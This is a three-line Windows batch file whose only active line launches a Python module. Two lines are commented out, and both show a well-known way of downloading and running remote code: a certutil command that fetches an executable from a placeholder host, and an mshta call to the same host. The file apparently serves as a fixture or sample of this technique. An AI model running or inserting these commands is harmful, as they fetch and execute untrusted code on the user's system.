REM certutil -urlcache -f http://x.example/a a.exe
:: mshta http://x.example
python -m example %*
